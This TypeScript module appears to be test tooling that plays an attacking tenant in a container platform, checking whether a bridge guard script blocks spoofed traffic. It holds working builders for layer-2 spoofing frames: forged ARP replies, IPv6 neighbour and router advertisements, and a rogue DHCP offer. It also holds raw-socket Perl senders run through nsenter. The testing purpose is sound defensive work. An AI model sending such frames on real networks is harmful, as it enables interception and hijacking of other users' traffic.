import { execFile } from 'node:child_process';
import { fileURLToPath } from 'node:url';

/**
 * Tools of an attacking tenant. A program sends frames as root in the network and user namespace of the attacker's container,
 * with exactly the rights that the tenant has inside.
 */

export interface Nic {
  readonly pid: number;
  readonly ipv4: string;
  readonly ipv6: string;
  readonly hwaddr: string;
}

/** Sends a frame every 10 ms for the given time. */
const sendScript = `
my ($if, $hex, $ms) = @ARGV;
socket(my $s, 17, 3, 0x0300) or die "socket: $!";
my $request = pack('a16 x16', $if);
ioctl($s, 0x8933, $request) or die "ioctl: $!";
my $to = pack('S n i S C C a8', 17, 3, unpack('x16 i', $request), 0, 0, 6, '');
for (1 .. $ms / 10) { send($s, pack('H*', $hex), 0, $to); select undef, undef, undef, 0.01 }
`;

/** Prints the number of frames that contain these bytes and arrived within the given time. */
const receiveScript = `
my ($hex, $ms) = @ARGV;
my ($bytes, $count, $left) = (pack('H*', $hex), 0, $ms / 1000);
socket(my $s, 17, 3, 0x0300) or die "socket: $!";
while ($left > 0) {
  my $ready = ''; vec($ready, fileno($s), 1) = 1;
  # Linux returns the remaining time.
  (my $found, $left) = select($ready, undef, undef, $left);
  last unless $found > 0;
  # The packet type in the sender's address: 4 is an outgoing frame.
  my $from = recv($s, my $frame, 2048, 0);
  next if unpack('x10 C', $from) == 4;
  $count += 1 if index($frame, $bytes) >= 0;
}
print $count;
`;

function run(file: string, args: readonly string[], timeoutMs = 30_000): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(file, args, { timeout: timeoutMs }, (error, stdout, stderr) => {
      if (error === null) resolve(stdout);
      else reject(new Error(`${file} failed: ${stderr}`, { cause: error }));
    });
  });
}

const asTenant = ({ pid }: Nic): string[] => ['-t', String(pid), '-U', '-n', '-S', '0', '-G', '0', '--'];
const onHost = (hostPid: number): string[] => ['-t', String(hostPid), '-n', '--'];

export function sendFrames(nic: Nic, frame: Buffer, ms: number): Promise<string> {
  const words = ['eth0', frame.toString('hex'), String(ms)];
  return run('nsenter', [...asTenant(nic), 'perl', '-e', sendScript, ...words]);
}

export async function countFrames(nic: Nic, bytes: Buffer, ms: number): Promise<number> {
  const words = [bytes.toString('hex'), String(ms)];
  return Number(await run('nsenter', [...asTenant(nic), 'perl', '-e', receiveScript, ...words]));
}

/** As root inside the container. */
export function configure(nic: Nic, ...words: readonly string[]): Promise<string> {
  return run('nsenter', [...asTenant(nic), 'ip', ...words]);
}

/** Fetches a URL from the host's network namespace; null if nothing responds. */
export async function fetchFromHost(hostPid: number, url: string): Promise<string | null> {
  const words = ['timeout', '2', 'busybox', 'wget', '-q', '-O', '-', url];
  return run('nsenter', [...onHost(hostPid), ...words]).then(
    (text) => text.trim(),
    () => null,
  );
}

/** So that the host resolves every address again. */
export async function flushNeighbours(hostPid: number): Promise<void> {
  await run('nsenter', [...onHost(hostPid), 'ip', 'neigh', 'flush', 'all']);
}

const guardScript = fileURLToPath(new URL('../../../../deploy/incus/bridge-guard.sh', import.meta.url));

/** As the operator does at boot. */
export async function guardBridge(hostPid: number, subnet: string): Promise<void> {
  await run('nsenter', [...onHost(hostPid), 'sh', guardScript, '--subnet', subnet], 60_000);
}

export async function unguardBridges(hostPid: number): Promise<void> {
  await run('nsenter', [...onHost(hostPid), 'sh', guardScript, '--remove']);
}

const bytesOfMac = (mac: string): Buffer => Buffer.from(mac.replaceAll(':', ''), 'hex');
const bytesOfIpv4 = (address: string): Buffer => Buffer.from(address.split('.').map(Number));
/** Needs all eight groups written out. */
const bytesOfIpv6 = (address: string): Buffer =>
  Buffer.from(
    address
      .split(':')
      .map((group) => group.padStart(4, '0'))
      .join(''),
    'hex',
  );
const everyMac = Buffer.alloc(6, 0xff);
const everyNode = 'ff02:0:0:0:0:0:0:1';

function ethernet(to: Buffer, from: string, type: number, payload: Buffer): Buffer {
  const kind = Buffer.alloc(2);
  kind.writeUInt16BE(type);
  return Buffer.concat([to, bytesOfMac(from), kind, payload]);
}

/** A broadcast ARP reply that claims the address for a MAC; `from` is the source of the frame. */
export function arpReply(claim: {
  readonly ipv4: string;
  readonly mac: string;
  readonly from: string;
}): Buffer {
  const [mac, address] = [bytesOfMac(claim.mac), bytesOfIpv4(claim.ipv4)];
  const head = Buffer.from('0001080006040002', 'hex');
  return ethernet(everyMac, claim.from, 0x0806, Buffer.concat([head, mac, address, everyMac, address]));
}

function checksum(data: Buffer): number {
  let sum = 0;
  for (let at = 0; at < data.length; at += 2) sum += data.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

function icmp6(from: { readonly mac: string; readonly ipv6: string }, message: Buffer): Buffer {
  const [source, target] = [bytesOfIpv6(from.ipv6), bytesOfIpv6(everyNode)];
  const length = Buffer.alloc(4);
  length.writeUInt32BE(message.length);
  const pseudo = Buffer.concat([source, target, length, Buffer.from([0, 0, 0, 58]), message]);
  message.writeUInt16BE(checksum(pseudo), 2);
  const head = Buffer.from([0x60, 0, 0, 0, 0, message.length, 58, 255]);
  const toAll = Buffer.from('333300000001', 'hex');
  return ethernet(toAll, from.mac, 0x86dd, Buffer.concat([head, source, target, message]));
}

/** An unsolicited neighbour advertisement with the override flag, which claims the address for the sender's MAC. */
export function neighbourAdvertisement(claim: { readonly ipv6: string; readonly mac: string }): Buffer {
  const head = Buffer.from('8800000020000000', 'hex');
  const option = Buffer.concat([Buffer.from([2, 1]), bytesOfMac(claim.mac)]);
  return icmp6(claim, Buffer.concat([head, bytesOfIpv6(claim.ipv6), option]));
}

/** A router advertisement that makes the sender the default route of all machines for half an hour. */
export function routerAdvertisement({ hwaddr }: Nic): Buffer {
  const option = Buffer.concat([Buffer.from([1, 1]), bytesOfMac(hwaddr)]);
  const message = Buffer.concat([Buffer.from('86000000400007080000000000000000', 'hex'), option]);
  return icmp6({ mac: hwaddr, ipv6: 'fe80:0:0:0:0:0:0:bad' }, message);
}

export const rogueDhcpMarker = Buffer.from('millrace-rogue-offer');

/** A broadcast DHCP offer that names the attacker as router. */
export function dhcpOffer({ hwaddr, ipv4 }: Nic): Buffer {
  const own = bytesOfIpv4(ipv4);
  const bootp = Buffer.alloc(236);
  bootp.set([2, 1, 6, 0], 0);
  bootp.set(own, 20);
  bootp.set(rogueDhcpMarker, 44);
  const options = Buffer.concat([
    Buffer.from('63825363350102', 'hex'),
    ...[Buffer.from([54, 4]), own, Buffer.from([3, 4]), own, Buffer.from([255])],
  ]);
  const body = Buffer.concat([bootp, options]);
  const udp = Buffer.alloc(8);
  udp.writeUInt16BE(67, 0);
  udp.writeUInt16BE(68, 2);
  udp.writeUInt16BE(body.length + 8, 4);
  const head = Buffer.from([0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0, ...own, 255, 255, 255, 255]);
  head.writeUInt16BE(head.length + udp.length + body.length, 2);
  head.writeUInt16BE(checksum(head), 10);
  return ethernet(everyMac, hwaddr, 0x0800, Buffer.concat([head, udp, body]));
}
